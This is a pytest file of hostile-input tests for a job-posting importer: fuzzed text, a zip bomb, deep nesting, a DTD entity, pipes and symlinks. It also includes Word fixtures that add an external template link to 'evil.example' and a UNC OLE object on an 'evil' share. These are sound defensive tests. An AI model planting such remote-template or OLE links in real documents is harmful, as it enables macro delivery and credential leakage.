"""Hostile files: the importer never raises on any text, refuses what is unsafe to open with a
message naming the file, and never reads outside the file it was given.

Every file is made in the test's own folder; nothing is aimed at /dev or outside tmp.
"""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jdeditor.files import DocumentError
from jdeditor.importer import (
    MAX_IMPORT_BYTES,
    ImportResult,
    import_bytes,
    import_posting,
    import_text,
)
from jdeditor.model import JobDescription

OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504  # how every VBA project starts
POSTING_WORDS = st.sampled_from(
    [
        "Responsibilities", "Requirements:", "# ", "## ", "- ", "* ", "• ", "1. ", "\n", "\n\n",
        "$45,000 - $55,000 per year", "Location: ", "Remote (US)", "岗位职责：", "薪资：", "元/月",
        "<h2>", "</h2>", "<li>", "<ul>", "<p>", "<br>", "<script>", "<a href='mailto:x@y.com'>",
        "**", "===", "About ", "[x](", "](http://a.b)", "年薪 15-20万", "3+ years", "本科",
        "<script type=\"application/ld+json\">", "{\"@type\": \"JobPosting\", \"title\": ", "\"",
        "}", "[", "]", ":", "：", "\t", "\x00", "\ud800", "\u202e", "&#0;", "&amp;", "<!--",
    ]
)  # fmt: skip
POSTING_TEXT = st.lists(st.one_of(POSTING_WORDS, st.text(max_size=30)), max_size=60).map("".join)


def _valid_or_problems(result: ImportResult) -> None:
    """A result is a draft the window can open: it validates, or its problems say why."""
    assert isinstance(result.draft, dict)
    checked = result.check()
    if checked.document is None:
        assert checked.errors
        # Only the two things a posting cannot lack may be wrong.
        assert {problem.path[:1] for problem in checked.errors} <= {
            ("title",),
            ("responsibilities",),
        }


@pytest.mark.parametrize("kind", ["txt", "md", "html", "jsonld"])
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=POSTING_TEXT)
def test_any_text_gives_a_result(kind: str, text: str) -> None:
    _valid_or_problems(import_text(text, kind))


@settings(max_examples=100, deadline=None)
@given(data=st.binary(max_size=2000), kind=st.sampled_from(["txt", "md", "html", "jsonld"]))
def test_any_bytes_give_a_result(data: bytes, kind: str) -> None:
    _valid_or_problems(import_bytes(data, kind))


@settings(max_examples=60, deadline=None)
@given(title=st.text(min_size=1, max_size=200), duty=st.text(min_size=1, max_size=400))
def test_a_title_and_a_duty_always_validate(title: str, duty: str) -> None:
    """Whatever their text, a title line and a bullet under 'Responsibilities' make a posting."""
    title_line = " ".join(title.split()) or "Agent"
    duty_line = " ".join(duty.split()) or "Answer calls"
    if not any(char.isalnum() for char in title_line + duty_line):
        return
    text = f"# {title_line}\n\n## Responsibilities\n\n- {duty_line}\n"
    result = import_text(text, "md")
    if result.draft["title"] and result.draft["responsibilities"]:
        assert result.document is not None, result.messages()


def test_nesting_and_sizes_that_break_naive_parsers() -> None:
    deep_html = "<div>" * 50_000 + "Agent" + "</div>" * 50_000
    deep_json = '<script type="application/ld+json">' + "[" * 100_000 + "]" * 100_000 + "</script>"
    huge_number = (
        '{"@type": "JobPosting", "title": "A", "baseSalary": {"value": 1' + "0" * 5000 + "}}"
    )
    deep_markdown = "> " * 10_000 + "x\n" + "- " * 5_000 + "y\n"
    for text, kind in [
        (deep_html, "html"),
        (deep_json, "html"),
        (huge_number, "jsonld"),
        (deep_markdown, "md"),
        ("•" * 200_000, "txt"),
        ("Responsibilities\n" + "- duty\n" * 5000, "txt"),
    ]:
        _valid_or_problems(import_text(text, kind))


def test_too_many_items_are_reported_not_lost() -> None:
    text = "Agent\n\nResponsibilities\n" + "".join(f"- Duty number {n}\n" for n in range(130))
    result = import_text(text)
    assert result.document is not None
    assert len(result.document.responsibilities) == 100
    assert "Duty number 129" in result.unplaced
    assert any("more than the 100 a list holds" in guess.message for guess in result.guesses)


def test_long_bullets_are_split_at_sentences() -> None:
    sentence = " ".join(
        f"Answer calls from customers about bill {n} and their plans." for n in range(9)
    )
    result = import_text(f"Agent\n\nResponsibilities\n- {sentence}\n")
    job = result.document
    assert job is not None
    assert len(job.responsibilities) > 1
    assert all(len(item) <= 300 for item in job.responsibilities)
    assert any("split" in guess.message for guess in result.guesses)


# --- Word files ---------------------------------------------------------------------------------
def _word() -> bytes:
    document = docx.Document()
    document.add_paragraph("Agent", style="Title")
    document.add_heading("Responsibilities", 1)
    document.add_paragraph("Answer calls", style="List Bullet")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _repack(
    data: bytes, changes: dict[str, bytes], *, extra: dict[str, bytes] | None = None
) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as output:
        for info in source.infolist():
            output.writestr(info, changes.get(info.filename, source.read(info)))
        for name, content in (extra or {}).items():
            output.writestr(name, content)
    return buffer.getvalue()


def test_a_plain_word_file_reads(tmp_path: Path) -> None:
    path = tmp_path / "plain.docx"
    path.write_bytes(_word())
    job = import_posting(path).document
    assert job is not None and job.responsibilities == ("Answer calls",)


def test_zip_bomb_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as output:
        source = zipfile.ZipFile(io.BytesIO(_word()))
        for info in source.infolist():
            output.writestr(info, source.read(info))
        with output.open("word/media/bomb.bin", "w") as bomb:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(130):
                bomb.write(chunk)
    path = tmp_path / "bomb.docx"
    path.write_bytes(buffer.getvalue())
    assert path.stat().st_size < MAX_IMPORT_BYTES["docx"]
    with pytest.raises(DocumentError) as raised:
        import_posting(path)
    assert str(path) in str(raised.value)
    assert "zip bomb" in str(raised.value)
    assert "template" not in str(raised.value)


def test_external_relationship_is_dropped_and_never_followed(tmp_path: Path) -> None:
    data = _word()
    rels_name = "word/_rels/document.xml.rels"
    rels = zipfile.ZipFile(io.BytesIO(data)).read(rels_name)
    outside = (
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
        b'TargetMode="External"/>'
    )
    path = tmp_path / "outside.docx"
    path.write_bytes(
        _repack(data, {rels_name: rels.replace(b"</Relationships>", outside + b"</Relationships>")})
    )
    result = import_posting(path)
    assert result.document is not None
    assert any("outside template" in guess.message for guess in result.guesses)
    assert "evil.example" not in str(result.draft)


def test_outside_ole_object_is_refused(tmp_path: Path) -> None:
    data = _word()
    rels_name = "word/_rels/document.xml.rels"
    rels = zipfile.ZipFile(io.BytesIO(data)).read(rels_name)
    ole = (
        b'<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/oleObject" Target="\\\\evil\\share\\x.bin" TargetMode="External"/>'
    )
    path = tmp_path / "ole.docx"
    path.write_bytes(
        _repack(data, {rels_name: rels.replace(b"</Relationships>", ole + b"</Relationships>")})
    )
    with pytest.raises(DocumentError, match="outside OLE object") as raised:
        import_posting(path)
    assert str(path) in str(raised.value)


def test_macro_part_under_another_name_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "renamed.docx"
    path.write_bytes(_repack(_word(), {}, extra={"word/media/image1.png": OLE}))
    with pytest.raises(DocumentError, match="embedded program") as raised:
        import_posting(path)
    assert str(path) in str(raised.value)


def test_macro_enabled_suffix_and_other_formats_are_refused(tmp_path: Path) -> None:
    for name, words in [
        ("posting.docm", "macro"),
        ("posting.doc", "97-2003"),
        ("posting.pdf", "PDF"),
        ("posting.exe", "not a format"),
    ]:
        path = tmp_path / name
        path.write_bytes(_word())
        with pytest.raises(DocumentError, match=words) as raised:
            import_posting(path)
        assert str(path) in str(raised.value)


def test_old_word_file_named_docx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "old.docx"
    path.write_bytes(OLE)
    with pytest.raises(DocumentError, match="97-2003"):
        import_posting(path)


def test_damaged_word_file_is_refused(tmp_path: Path) -> None:
    for content in (b"", b"PK\x03\x04 not really a zip", b"<html>not word</html>", _word()[:500]):
        path = tmp_path / "broken.docx"
        path.write_bytes(content)
        with pytest.raises(DocumentError) as raised:
            import_posting(path)
        assert str(path) in str(raised.value)


def test_dtd_in_word_xml_is_refused(tmp_path: Path) -> None:
    data = _word()
    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    doctype = b'<!DOCTYPE x [<!ENTITY lol "lol">]>'
    patched = body.replace(b"?>", b"?>" + doctype, 1)
    path = tmp_path / "dtd.docx"
    path.write_bytes(_repack(data, {"word/document.xml": patched}))
    with pytest.raises(DocumentError, match="DTD"):
        import_posting(path)


# --- files that are not files ------------------------------------------------------------------
def test_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    pipe = tmp_path / "posting.txt"
    os.mkfifo(pipe)
    with pytest.raises(DocumentError, match="pipe") as raised:
        import_posting(pipe)
    assert str(pipe) in str(raised.value)


def test_symlink_to_a_posting_is_read_and_to_a_pipe_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "real.txt"
    target.write_text("Agent\n\nResponsibilities\n- Answer calls\n", encoding="utf-8")
    link = tmp_path / "link.txt"
    link.symlink_to(target)
    job = import_posting(link).document
    assert job is not None and job.title == "Agent"
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    to_pipe = tmp_path / "to-pipe.md"
    to_pipe.symlink_to(pipe)
    with pytest.raises(DocumentError, match="pipe") as raised:
        import_posting(to_pipe)
    assert str(to_pipe) in str(raised.value)


def test_folder_missing_file_and_oversized_file_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "folder.txt"
    folder.mkdir()
    with pytest.raises(DocumentError, match="folder"):
        import_posting(folder)
    with pytest.raises(DocumentError, match="does not exist"):
        import_posting(tmp_path / "missing.md")
    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * (MAX_IMPORT_BYTES["txt"] + 1))
    with pytest.raises(DocumentError, match="too large"):
        import_posting(big)


def test_text_in_other_encodings_and_a_jdeditor_document(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.txt"
    legacy.write_bytes("Café Agent\n\nResponsibilities\n- Serve café customers\n".encode("cp1252"))
    job = import_posting(legacy).document
    assert job is not None and job.title.startswith("Caf")
    chinese = tmp_path / "gbk.txt"
    chinese.write_bytes("客服专员\n\n岗位职责：\n1. 接听电话\n".encode("gb18030"))
    job = import_posting(chinese).document
    assert job is not None and job.title == "客服专员"
    own = tmp_path / "own.json"
    own.write_text(JobDescription(title="Agent", responsibilities=("Answer",)).to_json(), "utf-8")
    assert import_posting(own).document is not None


def test_empty_and_title_only_files_give_problems_not_exceptions(tmp_path: Path) -> None:
    for text in ("", "   \n\n", "Agent\n"):
        path = tmp_path / "empty.txt"
        path.write_text(text, encoding="utf-8")
        result = import_posting(path)
        assert result.document is None
        assert result.check().errors
        assert any(str(path) in line for line in result.messages())
